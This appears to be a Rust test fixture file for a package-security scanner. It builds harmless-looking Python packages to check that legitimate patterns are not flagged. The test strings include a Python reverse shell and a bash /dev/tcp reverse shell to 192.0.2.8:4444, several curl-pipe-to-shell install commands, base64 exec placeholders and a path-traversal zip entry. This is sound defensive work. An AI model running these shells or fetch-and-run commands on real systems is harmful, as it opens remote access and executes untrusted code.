//! Families 29 to 33: vendored code, tests, documentation, languages and native code where it belongs.

use crate::case::{Cases, Trigger::Data, Trigger::Import};
use crate::malicious::{elf, windows};
use crate::package::{sdist, tree, wheel};
use crate::tar;

pub(crate) fn add(cases: &mut Cases) {
    vendored(cases);
    tests_and_documents(cases);
    languages(cases);
    native(cases);
}

fn vendored(cases: &mut Cases) {
    cases
        .family(29, "vendored-copies", Import)
        .case("zipped-modules", wheel().file("«pkg»/__init__.py", "import os, sys\nsys.path.append(os.path.join(os.path.dirname(__file__), 'vendored.zip'))\nfrom wording import joined\n").bytes(
            "«pkg»/vendored.zip",
            crate::zip::pack(&[crate::zip::Entry::file("wording.py", "import os\n\n\ndef joined(*parts):\n    return os.sep.join(parts)\n")]),
        ))
        .case("folder-with-a-version", wheel().file("«pkg»/__init__.py", "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendored.v12'))\nfrom wording import joined\n").file(
            "«pkg»/vendored.v12/wording.py",
            "import os\n\n\ndef joined(*parts):\n    return os.sep.join(parts)\n",
        ))
        .case("vendor-folder", wheel().file("«pkg»/_vendor/__init__.py", r#"
"""Copies of other projects, with lazy aliases."""
import glob, os.path, sys
WHEEL_DIR = os.path.abspath(os.path.dirname(__file__))

def vendored(modulename):
    vendored_name = "{0}.{1}".format(__name__, modulename)
    try:
        __import__(modulename, globals(), locals(), level=0)
    except ImportError:
        return
    sys.modules[vendored_name] = sys.modules[modulename]
    base, head = vendored_name.rsplit(".", 1)
    setattr(sys.modules[base], head, sys.modules[modulename])

sys.path[:] = glob.glob(os.path.join(WHEEL_DIR, "*.whl")) + sys.path
vendored("distro")
"#).file("«pkg»/_vendor/requests/__init__.py", "from .api import get, post\n").file("«pkg»/_vendor/requests/api.py", r#"
from urllib.request import Request, urlopen
def get(url, **kwargs):
    return urlopen(Request(url, method="GET"))
def post(url, data=None, **kwargs):
    return urlopen(Request(url, data=data, method="POST"))
"#).file("«pkg»/_vendor/distro/__init__.py", "import subprocess\n\ndef lsb_release():\n    return subprocess.check_output(('lsb_release', '-a'), stderr=subprocess.DEVNULL).decode()\n\ndef uname():\n    return subprocess.check_output(('uname', '-rs')).decode()\n"))
        .case("six-copy", wheel().file("«pkg»/packages/six.py", r#"
import functools, itertools, operator, sys, types

class _SixMetaPathImporter(object):
    def __init__(self, name):
        self.name, self.known_modules = name, {}
    def _add_module(self, mod, *fullnames):
        for fullname in fullnames:
            self.known_modules[self.name + "." + fullname] = mod
    def find_spec(self, fullname, path, target=None):
        return None
    def load_module(self, fullname):
        return sys.modules[fullname]

_importer = _SixMetaPathImporter(__name__)
sys.meta_path.append(_importer)
moves = types.ModuleType("moves")
sys.modules[__name__ + ".moves"] = moves
"#).file("«pkg»/packages/__init__.py", ""))
        .case("get-pip-like-script", sdist().file("scripts/get_tool.py", r#"
#!/usr/bin/env python
# This script holds a zip file of the tool, encoded in base 85, and installs it.
import os, sys, tempfile
from base64 import b85decode

def bootstrap(tmpdir):
    with open(os.path.join(tmpdir, "tool.zip"), "wb") as fp:
        fp.write(b85decode(DATA.replace(b"\n", b"")))
    sys.path.insert(0, os.path.join(tmpdir, "tool.zip"))
    from tool import main
    sys.exit(main())

DATA = b"""
«'this would be a zip file'|double|double|double|b85»
"""
if __name__ == "__main__":
    bootstrap(tempfile.mkdtemp())
"#));
}

fn tests_and_documents(cases: &mut Cases) {
    cases
        .family(30, "attack-strings-in-tests", Data)
        .case("reverse-shells", sdist().file("tests/test_detect.py", r#"
import pytest
from «pkg» import shorten

SAMPLES = [
    "import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.8',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
    "bash -i >& /dev/tcp/192.0.2.8/4444 0>&1",
    "exec(__import__('base64').b64decode('«mark|b64»'))",
]

@pytest.mark.parametrize("sample", SAMPLES)
def test_detects(sample):
    assert shorten(sample, 10)
"#))
        .case("executed-in-tests", sdist().file("tests/test_sandbox.py", r#"
import base64, os, subprocess, sys
def test_sandbox_stops_network():
    code = base64.b64decode("«fetch|b64»")
    done = subprocess.run([sys.executable, "-m", "«pkg».sandbox", "-c", code.decode()], capture_output=True)
    assert done.returncode == 1
def test_env():
    exec(base64.b64decode("«mark|b64»"))
"#))
        .case("evil-archives", sdist().bytes("tests/data/evil.zip", crate::zip::pack(&[crate::zip::Entry::file("../../evil.py", "print('inert')\n")])).bytes("tests/data/not-a-zip.zip", b"PK\x03\x04broken".to_vec()).file("tests/data/bad_syntax.py", "def broken(:\n    pass\n").bytes("tests/data/latin.py", b"# -*- coding: latin-1 -*-\nx = '\xe9'\n".to_vec()));
    cases
        .family(31, "curl-pipe-shell-in-documents", Data)
        .case("readme", sdist().file("README.md", "# «name»\n\n```sh\ncurl -sSf https://example.com/install.sh | bash\n```\n").file("docs/install.rst", "Install\n=======\n\n::\n\n    wget -qO- https://example.com/get.sh | sudo sh\n").file(".github/workflows/ci.yml", "jobs:\n  test:\n    steps:\n      - run: curl -sSL https://example.com/x.sh | bash\n").file("Dockerfile", "FROM python:3.12\nRUN curl -fsSL https://example.com/setup | bash -\n"))
        .case("docstring-and-message", wheel().metadata("Description-Content-Type: text/markdown\n").file("«pkg»/cli.py", r#"
"""Command line.

Install the tool with::

    curl -LsSf https://example.com/install.sh | sh
"""
import shutil, sys

HINT = "tool not found; run `curl -LsSf https://example.com/install.sh | sh`"

def main():
    if shutil.which("tool") is None:
        sys.exit(HINT)
"#))
        .case("links-in-sdist", sdist().file("docs/index.md", "See ../README\n").alter_sdist(|entries| {
            let top = entries[0].name.split('/').next().unwrap_or_default().to_owned();
            entries.push(tar::Entry::special(format!("{top}/docs/README"), b'2', "index.md"));
            entries.push(tar::Entry::special(format!("{top}/docs/latest"), b'2', "../docs"));
        }))
        .case("source-tree", tree().file("Makefile", "install:\n\tcurl -s https://example.com/x | sh\n").file("setup.py", "from setuptools import setup, find_packages\n«setup»\n"));
}

fn languages(cases: &mut Cases) {
    cases
        .family(32, "bidirectional-text", Import)
        .case("translations", wheel().file("«pkg»/locale_data.py", "# -*- coding: utf-8 -*-\nMESSAGES = {\n    'he': '\u{200f}שלום עולם\u{200e}',\n    'ar': '\u{202b}مرحبا بالعالم\u{202c}',\n    'fa': 'می\u{200c}خواهم',\n}\n\n\ndef greet(language):\n    return MESSAGES.get(language, 'hello')\n"))
        .case("comments", wheel().file("«pkg»/rtl.py", "# בדיקה של טקסט מימין לשמאל \u{200f}(rtl)\nRLM = '\\u200f'\nMARKS = '\u{200e}\u{200f}'\n\ndef strip(text):\n    return text.strip(MARKS)\n"))
        .case("emoji-joiners", wheel().file("«pkg»/emoji.py", "FAMILY = '👨\u{200d}👩\u{200d}👧'\nFLAG = '🏳\u{fe0f}\u{200d}🌈'\nNAMES = {FAMILY: 'family', FLAG: 'rainbow flag'}\n"));
}

fn native(cases: &mut Cases) {
    cases
        .family(33, "native-code-as-tagged", Import)
        .case("extension", wheel().tag("cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64").file("«pkg»/__init__.py", "from ._core import add\n").bytes("«pkg»/_core.cpython-311-x86_64-linux-gnu.so", elf()).bytes("«pkg».libs/libgomp-a34b3233.so.1.0.0", elf()))
        .case("windows-launchers", wheel().tag("py3-none-win_amd64").bytes("«pkg»/launchers/t64.exe", windows()).bytes("«pkg»/_core.pyd", windows()))
        .case("tool-binary", wheel().tag("py3-none-manylinux_2_17_x86_64").bytes("«pkg»-«version».data/scripts/«name»", elf()).file("«pkg»/__main__.py", "import os, sys, sysconfig\n\ndef find():\n    return os.path.join(sysconfig.get_path('scripts'), '«name»')\n\nif __name__ == '__main__':\n    os.execvp(find(), [find(), *sys.argv[1:]])\n"))
        .case("abi3", wheel().tag("cp38-abi3-macosx_11_0_arm64").file("«pkg»/__init__.py", "from ._rust import *\n").bytes("«pkg»/_rust.abi3.so", [b"\xcf\xfa\xed\xfe\x0c\0\0\x01".to_vec(), vec![0; 2000]].concat()));
}
